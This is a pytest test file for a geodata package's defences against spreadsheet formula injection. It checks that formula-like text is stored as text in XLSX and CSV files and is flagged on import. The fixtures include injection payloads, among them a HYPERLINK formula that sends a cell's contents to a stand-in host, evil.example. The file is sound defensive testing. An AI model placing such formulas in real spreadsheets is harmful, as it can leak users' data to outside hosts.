"""Spreadsheet formula injection (OWASP "CSV injection"): text starting with = + - @ (or tab,
CR) is written to XLSX as text and to CSV with a leading ', numbers are never touched, and the
importer flags such names."""

from __future__ import annotations

import csv
from decimal import Decimal

import pytest

from isipo_geo.tables import formula_like, neutralise_formula, write_records

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text(text) -> None:
    assert formula_like(text)
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["شهرک صنعتی الف", "Alborz 2", "", "a=b"])
def test_plain_text_untouched(text) -> None:
    assert not formula_like(text) and neutralise_formula(text) == text


def test_xlsx_stores_formula_like_text_as_text(tmp_path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "t.xlsx"
    rows = [{"name": t, "need": Decimal("-5")} for t in HOSTILE]
    write_records(rows, out)
    ws = load_workbook(out).active
    cells = [ws.cell(row=r, column=1) for r in range(2, 2 + len(HOSTILE))]
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in HOSTILE]  # XML: CR → LF
    assert {c.data_type for c in cells} == {"s"}  # never "f": no live formula
    assert ws.cell(row=2, column=2).value == -5  # numbers stay numbers


def test_csv_neutralises_text_but_not_numbers(tmp_path) -> None:
    out = tmp_path / "t.csv"
    write_records([{"name": "=1+1", "need": Decimal("-5")}], out)
    with open(out, encoding="utf-8-sig", newline="") as f:
        got = list(csv.reader(f))
    assert got == [["name", "need"], ["'=1+1", "-5"]]


def test_importer_flags_formula_like_names(tmp_path) -> None:
    from isipo_geo.registry.importer import import_registry

    src = tmp_path / "in.csv"
    src.write_text(
        'نام شهرک,استان,نوع\n"=HYPERLINK(""http://x"",""الف"")",تهران,شهرک صنعتی\n'
        "شهرک صنعتی ب,تهران,شهرک صنعتی\n",
        encoding="utf-8",
    )
    result = import_registry(src)
    flags = [f if isinstance(f, str) else "" for f in result.registry["flags"].tolist()]
    assert flags == ["formula_like:نام شهرک", ""]
    assert result.flag_counts().get("formula_like") == 1


@pytest.mark.parametrize(
    ("text", "like"),
    [("-5", False), ("+1.5e3", False), ("-2+3", True), ("+98 21 555", True), ("-", True)],
)
def test_signed_plain_numbers_are_not_formulas(text, like) -> None:
    assert formula_like(text) is like


def test_rejects_file_neutralises_formulas(tmp_path) -> None:
    from isipo_geo.registry.importer import import_registry, write_registry

    src = tmp_path / "in.csv"
    src.write_text(
        "نام شهرک,استان,نوع,کمبود آب (لیتر بر ثانیه)\n"
        'شهرک صنعتی الف,تهران,شهرک صنعتی,"=1+1"\nشهرک صنعتی ب,تهران,شهرک صنعتی,-5\n',
        encoding="utf-8",
    )
    result = import_registry(src)
    assert result.rejected == 2
    _, rejects = write_registry(result, tmp_path / "reg.csv")
    with open(rejects, encoding="utf-8-sig", newline="") as f:
        cells = [row[-1] for row in csv.reader(f)][1:]
    assert cells == ["'=1+1", "-5"]  # the formula is text; the negative number stays a number


def test_importer_flags_formula_like_ids(tmp_path) -> None:
    from isipo_geo.registry.importer import import_registry

    src = tmp_path / "in.csv"
    src.write_text(
        'شناسه,نام شهرک,استان,نوع\n"=HYPERLINK(""http://x"",""y"")",شهرک صنعتی الف,تهران,'
        "شهرک صنعتی\n",
        encoding="utf-8",
    )
    result = import_registry(src)
    assert result.flag_counts() == {"formula_like": 1}
    assert result.registry["flags"].iloc[0] == "formula_like:شناسه"
